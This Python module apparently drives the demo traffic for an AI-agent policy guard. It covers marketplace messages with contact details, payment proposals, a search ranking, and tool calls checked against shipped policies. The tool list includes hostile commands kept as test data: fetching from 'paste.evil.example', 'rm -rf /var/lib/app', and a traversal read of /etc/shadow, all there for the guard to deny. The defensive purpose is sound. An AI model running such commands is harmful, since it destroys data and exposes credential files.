"""The main job's demo traffic: a marketplace assistant, a search ranker and a tool agent.

`guard demo` sends it through an in-process `Guard`; `make run` (service/_feed.py) sends the
same traffic through a `RemoteGuard`, whose decorators behave alike.
"""

from __future__ import annotations

import random
from collections import Counter, defaultdict
from typing import TYPE_CHECKING, Any

from guard._engine import Guard
from guard._exceptions import ActionBlocked, ActionEscalated
from guard._models import Decision
from guard.policy._loader import shipped_dir

if TYPE_CHECKING:
    from guard.client import RemoteGuard

MESSAGES = [
    "Happy to help with your kitchen remodel next week.",
    "mail me at jo.smith@example.com and we can skip the fees",
    "call me on 416-555-0199 tonight",
    "write to jo at example dot com",
    "add me on telegram @jo_smith",
    "I can do it for $450 by 2026-12-01",
    "ask support@marketplace.example if anything breaks",
    "my card is 4111 1111 1111 1111, charge it directly",
]
# Before a contract: contact details are redacted (a contract is not recorded, so a message
# let through by one would look, in the console, like a detail the guard missed).
MESSAGE_CONTEXT = {"has_contract": False, "role": "agent"}
# One payer each (the pack sums one actor's payments over 24 hours): the payments the
# assistant proposes, its preferred one first, with the probability it gives each.
PAYMENTS: list[list[tuple[int, float]]] = [
    [(120, 1.0)],
    [(700, 0.7), (300, 0.3)],
    [(25000, 0.7), (400, 0.3)],
    [(-5, 1.0)],
]
TOOLS = [
    {"kind": "search", "params": {"q": "best tile adhesive"}},
    {"kind": "fetch_url", "params": {"url": "https://docs.python.org/3/"}},
    {"kind": "fetch_url", "params": {"url": "https://paste.evil.example/raw/1"}},
    {"kind": "run_shell", "params": {"command": "rm -rf /var/lib/app"}},
    {"kind": "run_shell", "params": {"command": "ls /workspace"}},
    {"kind": "read_file", "params": {"path": "/workspace/../etc/shadow"}},
    {"kind": "purchase", "params": {"amount": 40}},
    {"kind": "purchase", "params": {"amount": 900}},
    {"kind": "send_email", "params": {"to": "client@gmail.com", "body": "invoice"}},
]


def run_demo(audit: str | None, *, rounds: int = 1, seed: int = 7) -> dict[str, Any]:
    """Feed example traffic through the shipped packs; return counts and a few examples."""
    rng = random.Random(seed)
    decisions: list[Decision] = []
    examples: list[str] = []
    with Guard.from_policy(shipped_dir(), audit=audit) as guard:
        for _ in range(rounds):
            decisions += marketplace(guard, rng, examples, PAYMENTS)
            decisions += ranking(guard, rng, examples)
            decisions += _tools(guard, examples)
        head = (
            guard.audit.head().model_dump(mode="json") if guard.audit else {"size": 0, "root": ""}
        )
    verdicts: dict[str, Counter[str]] = defaultdict(Counter)
    for d in decisions:
        verdicts[d.policy][d.verdict.value] += 1
    return {
        "verdicts": dict(verdicts),
        # a later round repeats the first's lines: each is shown once
        "examples": list(dict.fromkeys(examples))[:12],
        "head": head,
        "decisions": len(decisions),
    }


def marketplace(
    guard: Guard | RemoteGuard,
    rng: random.Random,
    examples: list[str],
    payments: list[list[tuple[int, float]]],
) -> list[Decision]:
    """The assistant's MESSAGES, then one release_payment proposal per entry of `payments`."""
    out: list[Decision] = []

    @guard.agent(policy="marketplace-agent", context=MESSAGE_CONTEXT)
    def assistant(text: str) -> dict[str, Any]:
        return {
            "kind": "send_message",
            "actor": f"user-{rng.randint(1, 5)}",
            "params": {"to": "client-1", "message": text},
        }

    redacted: list[str] = []
    for text in MESSAGES:
        try:
            sent = assistant(text)
        except (ActionBlocked, ActionEscalated) as exc:
            out.append(exc.decision)
            continue
        out.append(sent.decision)
        if sent.decision.verdict.value == "redact":
            redacted.append(sent["params"]["message"])
    if redacted:
        examples.append(
            f"redacted {len(redacted)} of {len(MESSAGES)} messages, e.g. {redacted[0]!r}"
        )

    @guard.agent(policy="marketplace-agent", context={"role": "agent"})
    def payer(actor: str, options: list[tuple[int, float]]) -> list[tuple[dict[str, Any], float]]:
        return [
            ({"kind": "release_payment", "actor": actor, "params": {"amount": a}}, p)
            for a, p in options
        ]

    for number, options in enumerate(payments, start=1):
        try:
            paid = payer(f"user-{number}", options)
        except (ActionBlocked, ActionEscalated) as exc:
            out.append(exc.decision)
            said = type(exc).__name__
            if not any(x.startswith(said) for x in examples):  # one line of each
                examples.append(f"{said}: {exc}")
            continue
        out.append(paid.decision)
        if paid.decision.substitution:
            examples.append(f"substituted: {paid.decision.substitution.reason}")
    return out


def ranking(guard: Guard | RemoteGuard, rng: random.Random, examples: list[str]) -> list[Decision]:
    """A search ranking of 12 listings: one suspended, one showing its seller's e-mail."""

    @guard.ranker(policy="ranking")
    def search(query: str) -> list[dict[str, Any]]:
        items: list[dict[str, Any]] = [
            {
                "id": f"listing-{i}",
                "score": round(1 - i / 12, 3),
                "verified": i % 4 != 3,
                "agency_id": f"agency-{i % 3}",
                "status": "suspended" if i == 2 else "active",
            }
            for i in range(12)
        ]
        items[5]["seller_email"] = "seller5@example.com"
        rng.shuffle(items)
        return sorted(items, key=lambda it: -float(it["score"]))

    ranked = search("plumber toronto")
    dropped = [o for o in ranked.decision.items or [] if o.verdict.value == "deny"]
    examples.append(
        f"ranking: kept {len(ranked)} of 12, dropped {len(dropped)} "
        f"({', '.join(sorted({r for o in dropped for r in o.rule_ids}))})"
    )
    return [ranked.decision]


def _tools(guard: Guard, examples: list[str]) -> list[Decision]:
    decisions = guard.check_batch(TOOLS, {"budget_remaining": 500}, policy="agent-tools")
    for action, d in zip(TOOLS, decisions, strict=True):
        # name a rule that denied it: other hits (the allow-list, a review rule) did not
        denied_by = [h for h in d.hits if h.effect.value == "deny"]
        if d.verdict.value == "deny" and denied_by:
            hit = denied_by[0]
            examples.append(f"tool {action['kind']} denied: {hit.message or hit.rule_id}")
    return decisions
